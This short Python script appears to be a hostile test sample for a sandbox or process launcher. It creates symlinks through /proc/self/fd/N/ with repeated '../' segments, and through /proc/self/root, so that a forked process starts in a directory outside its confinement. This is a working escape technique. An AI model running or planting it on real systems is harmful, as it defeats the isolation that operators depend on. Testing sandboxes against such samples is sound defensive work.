"""Have the next process of the task start in a directory that whoever forks it has open, and so outside."""

import os

from hostile import bait

for number in range(int(bait.first), int(bait.last)):
    os.symlink(f"/proc/self/fd/{number}/" + "../" * 20 + bait.folder[1:], f"by-{number}")
os.symlink(f"/proc/self/root{bait.folder}", "by-root")
